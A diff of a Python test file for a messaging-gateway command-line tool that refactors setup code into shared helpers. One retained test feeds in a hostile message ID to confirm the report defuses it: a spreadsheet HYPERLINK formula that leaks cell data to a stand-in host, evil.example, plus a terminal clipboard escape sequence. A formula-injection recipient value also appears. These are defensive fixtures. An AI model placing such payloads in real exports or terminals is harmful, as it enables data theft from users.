@@ -20,6 +20,7 @@ from gateway_tui.cli import main
 from gateway_tui.demo.hostile import ATTACKS
 from gateway_tui.demo.server import DemoServer
 from gateway_tui.screens.participants import write_participants_csv
+from tests.support import cli_env, locked_campaign, run_cli_without_textual
 
 GROUP = "120363012345678901@g.us"  # sales-eu's group of 1,024
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
@@ -39,15 +40,9 @@ def hostile_server():
 
 
 def run_cli(server, *argv: str, home: Path) -> subprocess.Popen:
-    env = {
-        **os.environ,
-        "GATEWAY_TUI_HOME": str(home),
-        "GATEWAY_URL": server.url,
-        "GATEWAY_API_KEY": server.api_key,
-    }
     return subprocess.Popen(
         [sys.executable, "-m", "gateway_tui", *argv],
-        env=env,
+        env=cli_env(server, home),
         stdout=subprocess.PIPE,
         stderr=subprocess.PIPE,
     )
@@ -184,26 +179,9 @@ def test_the_participants_export_is_private_and_cleaned(tmp_path):
 
 
 def test_the_campaign_report_defuses_a_hostile_message_id(isolated_home, tmp_path):
-    from datetime import datetime
+    from gateway_tui.campaign.journal import Status
 
-    from gateway_tui.campaign.journal import Pace, Status, create_campaign
-    from gateway_tui.campaign.recipients import read_recipients_file
-    from gateway_tui.drafts import Draft, DraftRow, DraftSection
-
-    draft = Draft(
-        title="Hi", description="d", button_text="b", sections=[DraftSection("s", [DraftRow("r")])]
-    )
-    to = tmp_path / "to.csv"
-    to.write_text("number,name\n4917200000001,=1+1\n")
-    campaign = create_campaign(
-        gateway="http://gw.example",
-        instance="sales-eu",
-        draft=draft,
-        recipients=read_recipients_file(to),
-        pace=Pace(0, 0),
-        now=datetime.now(),
-    )
-    campaign.lock()
+    campaign = locked_campaign(tmp_path, "number,name\n4917200000001,=1+1\n")
     hostile_id = '=HYPERLINK("http://evil.example/?leak="&A2,"x")\x1b]52;c;eA==\x07'
     campaign.record_try(0, at=1.0, planned=1.0, gap=0.0)
     campaign.record_done(0, Status.SENT, at=2.0, message_id=hostile_id, error="")
@@ -290,21 +268,6 @@ def test_send_list_with_a_closed_stdout_is_interrupted_and_resumes_cleanly(tmp_p
     ids=["instances", "instances-csv", "participants-json"],
 )
 def test_the_read_commands_import_no_textual(demo_server, tmp_path, argv):
-    script = (
-        "import sys\nfrom gateway_tui.cli import main\n"
-        f"code = main({list(argv)!r})\n"
-        "print('textual' in sys.modules, file=sys.stderr)\n"
-        "sys.exit(code)\n"
-    )
-    env = {
-        **os.environ,
-        "GATEWAY_TUI_HOME": str(tmp_path),
-        "GATEWAY_URL": demo_server.url,
-        "GATEWAY_API_KEY": demo_server.api_key,
-    }
-    result = subprocess.run(
-        [sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=120
-    )
+    result = run_cli_without_textual(list(argv), demo_server, tmp_path)
     assert result.returncode == 0, result.stderr
     assert result.stdout
-    assert result.stderr.strip().splitlines()[-1] == "False"
